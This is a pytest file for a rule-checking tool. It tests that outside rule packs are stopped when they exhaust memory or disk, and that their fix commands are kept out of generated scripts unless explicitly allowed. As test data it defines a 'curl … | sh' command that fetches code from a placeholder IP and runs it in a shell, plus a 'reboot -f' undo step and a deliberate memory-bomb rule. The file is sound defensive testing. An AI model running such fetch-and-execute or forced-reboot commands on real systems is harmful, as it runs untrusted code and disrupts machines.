"""Rule packs from elsewhere: they take no memory, no disk and no command of ours, and their commands are named as theirs."""

from __future__ import annotations

import json
import resource
from pathlib import Path

import pytest

from checker.errors import RuleError
from checker.rules.book.book import load_book
from tests.folders import FIXTURES
from tests.hostile.command import ZONES, run
from tests.hostile.site_rule import RULE, write_rule
from tests.thorough import sample

DEMO = str(FIXTURES / "demo" / "exports")
CURL = "curl -s http://192.0.2.1/x | sh"
FIX = f"""fix:
  summary: Add more paths to the host.
  commands:
    - {{platform: linux, run: "{CURL}", undo: "reboot -f"}}
"""


def folded() -> str:
    """A rule whose condition is constant: the compiler evaluates it, and needs tens of gigabytes for its texts."""
    joined = "concat(" + ", ".join(["x", *["array_to_string($l, ',')"] * 60]) + ")"
    items = ", ".join(["a" * 230] * 1000)
    return (
        RULE.replace("below(live_paths, $min)", f'"len(list_transform($l, lambda x: {joined})) > 5"')
        .replace("min: {default: 9, type: integer, minimum: 1,", f"l: {{default: [{items}], type: list,")
        .replace("params: {min: 4}, ", "")
    )


@pytest.mark.parametrize(
    "arguments", sample([["check", "zones.txt"], ["explain", "XAB001"], ["rules", "test"]], 3), ids=" ".join
)
def test_a_rule_that_takes_all_memory_is_stopped(tmp_path: Path, arguments: list[str]) -> None:
    write_rule(tmp_path / "pack", folded())
    (tmp_path / "zones.txt").write_text(ZONES)
    done = run(tmp_path, *arguments, "--rules", "pack")
    assert done.returncode in {0, 1, 2, 4}, done.stderr
    assert "Traceback" not in done.stderr
    # The largest process so far, in KiB: the text that the condition builds has 14 GB.
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss < 5 << 20


def test_a_file_that_is_too_large_is_refused_before_it_is_read(tmp_path: Path) -> None:
    pack = write_rule(tmp_path / "pack")
    with (pack / "XAB002-large.yaml").open("wb") as file:
        file.truncate(1 << 40)
    with pytest.raises(RuleError, match=r"pack/XAB002-large\.yaml: larger than 256 KiB"):
        load_book(pack)


def test_a_full_temporary_folder_costs_only_the_rules_of_the_pack(tmp_path: Path) -> None:
    pack = write_rule(tmp_path / "pack")
    load_book(pack, others=None)
    (tmp_path / "zones.txt").write_text(ZONES)
    # Compiled before, so that only the copy of the facts is too large for the disk.
    arguments = ["check", "zones.txt", "--isolated", "--rules", str(pack), "--select", "ZON,XAB001", "-o", "json"]
    whole = run(tmp_path, *arguments)
    assert whole.returncode in {0, 1}, whole.stderr
    done = run(tmp_path, *arguments, limits={resource.RLIMIT_FSIZE: 50_000})
    assert done.returncode == 2
    assert "the report has only what was possible without it" in done.stderr
    report = json.loads(done.stdout)
    assert [error.partition(":")[0] for error in report["errors"]] == ["XAB001"]
    assert "the temporary folder is full: free space in " in report["errors"][0]
    findings = [finding["fingerprint"] for finding in report["findings"]]
    assert findings == [one["fingerprint"] for one in json.loads(whole.stdout)["findings"]]


@pytest.mark.parametrize("mebibytes", sample([400, 300, 500, 700], 4))
def test_too_little_memory_ends_with_a_message(tmp_path: Path, mebibytes: int) -> None:
    (tmp_path / "zones.txt").write_text(ZONES)
    done = run(
        tmp_path, "check", "zones.txt", "--isolated", "--exit-zero", limits={resource.RLIMIT_AS: mebibytes << 20}
    )
    assert done.returncode == 2
    assert (
        done.stderr
        == f"sanlint: error: this process may use {mebibytes} MiB of address space; at least 1024 are needed\n"
    )


@pytest.mark.parametrize("allowed", [False, True], ids=["listed", "allowed"])
def test_commands_of_a_pack_are_in_scripts_only_if_allowed(tmp_path: Path, allowed: bool) -> None:
    write_rule(tmp_path / "a pack", RULE.replace("fix: {summary: Add more paths to the host.}\n", FIX))
    option = ["--custom-commands"] if allowed else []
    done = run(
        tmp_path, "fix", DEMO, "--isolated", "--rules", "a pack", "--select", "XAB001,PTH,ALN", "-o", "out", *option
    )
    assert done.returncode == 0, done.stderr
    texts = {
        path.relative_to(tmp_path / "out").as_posix(): path.read_text() for path in (tmp_path / "out").rglob("*.*")
    }
    plan = texts.pop("plan.md")
    assert "XAB001 of a pack" in plan
    scripts = [text for text in texts.values() if CURL in text]
    assert bool(scripts) == allowed
    if allowed:
        assert all("XAB001 of a pack" in text for text in scripts)
    else:
        assert "Commands of a pack" in plan
        assert CURL in plan
        assert not any("reboot -f" in text for text in texts.values())
